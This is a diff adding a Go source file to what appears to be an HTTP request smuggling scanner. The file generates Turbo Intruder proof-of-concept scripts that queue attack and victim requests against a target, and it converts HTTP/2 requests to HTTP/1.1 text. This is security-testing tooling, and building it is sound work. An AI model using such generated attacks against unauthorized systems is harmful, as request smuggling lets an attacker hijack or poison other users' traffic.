@@ -0,0 +1,116 @@
+package poc
+
+import (
+	"bytes"
+	"fmt"
+	"slices"
+	"smuggler/smuggler"
+	"strings"
+	"text/template"
+)
+
+// a Turbo Intruder script (Jython). requests of the same connection are queued on one
+// connection, the others each get their own. h2 requests are written the way Turbo Intruder's
+// HTTP/2 engine takes them, as HTTP/1.1-style text it converts to fields
+var turboTmpl = template.Must(template.New("turbo").Parse(`# {{.Technique}} proof of concept for {{.Target}}, generated by smuggler.
+# {{.Technique.Description}}.
+#
+# paste it into Turbo Intruder (Extensions > Turbo Intruder > Send to turbo intruder) and attack:
+# the requests are queued as they are, the attack then the victim.
+{{- range .Notes}}
+# {{.}}
+{{- end}}
+
+
+def queueRequests(target, wordlists):
+    engine = RequestEngine(endpoint={{.EndpointLiteral}},
+                           concurrentConnections=1,
+                           requestsPerConnection={{.PerConn}},
+                           pipeline=False,
+                           engine=Engine.{{if .H2}}BURP2{{else}}THREADED{{end}})
+{{range .Requests}}
+    # {{.Role}}{{if .NewConn}}, on a new connection{{end}}
+    engine.queue({{.Literal}})
+{{end}}
+
+def handleResponse(req, interesting):
+    table.add(req)
+`))
+
+type turboRequest struct {
+	Role    string
+	NewConn bool
+	Literal string
+}
+
+func (p *poc) Endpoint() string {
+	scheme := "http"
+	if p.TLS {
+		scheme = "https"
+	}
+	return scheme + "://" + p.Dial
+}
+
+func (p *poc) EndpointLiteral() string {
+	return pyString("", p.Endpoint())
+}
+
+func (p *poc) turbo() ([]File, error) {
+	data := struct {
+		*poc
+		Notes    []string
+		Requests []turboRequest
+	}{poc: p}
+	if p.Dial != p.Addr {
+		data.Notes = append(data.Notes, fmt.Sprintf("the endpoint is the address the scan connected to, the Host is %s", p.URL.Host))
+	}
+
+	i := 0
+	for _, conn := range p.Conns {
+		for j, r := range conn {
+			text := r.Raw
+			if p.H2 {
+				var note string
+				if text, note = h1Text(r); len(note) > 0 && !slices.Contains(data.Notes, note) {
+					data.Notes = append(data.Notes, note)
+				}
+			}
+			data.Requests = append(data.Requests, turboRequest{
+				Role:    p.role(i),
+				NewConn: j == 0 && i > 0 && p.PerConn() > 1,
+				Literal: pyString("", text),
+			})
+			i++
+		}
+	}
+
+	var buf bytes.Buffer
+	if err := turboTmpl.Execute(&buf, data); err != nil {
+		return nil, err
+	}
+	return []File{{Name: "-turbo.py", Data: buf.Bytes()}}, nil
+}
+
+// an h2 request as HTTP/1.1-style text: the pseudo-headers make the request line and the Host
+// header. fields with bytes that can't be written in a header line are reported in note
+func h1Text(r smuggler.PoCRequest) (text, note string) {
+	var method, path, authority string
+	var sb strings.Builder
+	for _, f := range r.Fields {
+		switch f.Name {
+		case ":method":
+			method = f.Value
+		case ":path":
+			path = f.Value
+		case ":authority":
+			authority = f.Value
+		case ":scheme":
+		default:
+			if strings.ContainsAny(f.Name+f.Value, "\r\n") || strings.Contains(f.Name, ":") {
+				note = "a header field has CR, LF or a colon that only the raw, Go or Python PoCs send as is"
+			}
+			sb.WriteString(f.Name + ": " + f.Value + "\r\n")
+		}
+	}
+	return fmt.Sprintf("%s %s HTTP/2\r\nHost: %s\r\n%s\r\n%s", method, path, authority, sb.String(), r.Body), note
+}